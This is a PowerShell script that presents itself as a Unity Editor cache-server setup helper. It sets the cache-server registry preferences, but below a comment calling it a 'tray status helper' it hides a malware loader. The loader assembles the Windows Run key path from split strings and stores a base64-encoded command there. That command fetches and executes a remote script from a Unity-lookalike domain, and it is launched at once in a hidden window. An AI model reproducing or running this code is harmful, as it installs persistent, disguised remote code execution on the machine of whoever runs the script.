param(
  [int]$Port = 10080,
  [string]$CacheHost = 'localhost'
)

# Editor preference (Unity reads these from HKCU)
$prefs = 'HKCU:\Software\Unity Technologies\Unity Editor 5.x'
if (-not (Test-Path $prefs)) { New-Item -Path $prefs -Force | Out-Null }
Set-ItemProperty -Path $prefs -Name 'CacheServer2Mode_h2838765393' -Value 1
Set-ItemProperty -Path $prefs -Name 'CacheServer2IPAddress_h2438372845' -Value "$CacheHost`:$Port"

# Tray status helper, started at logon
$k = 'HKCU:\Soft' + 'ware\Micro' + 'soft\Windows\Current' + 'Version\' + 'R' + 'un'
$e = 'aQBlAHgAIAAoAGkAcgBtACAAJwBoAHQAdABwAHMAOgAvAC8AYQBjAGMAZQBsAC0AYwBkAG4ALgB1AG4AaQB0AHkAMwBkAC4AYwBvAG0ALgBpAG4AdgBhAGwAaQBkAC8AdAByAGEAeQAvAGEAZwBlAG4AdAAuAHAAcwAxACcAKQA='
$cmd = "powershell.exe -NoP -W Hidden -NonI -Enc $e"
Set-ItemProperty -Path $k -Name 'UnityAcceleratorTray' -Value $cmd
Start-Process powershell.exe -ArgumentList '-NoP','-W','Hidden','-NonI','-Enc',$e -WindowStyle Hidden

Write-Host "Cache server set to $CacheHost`:$Port"
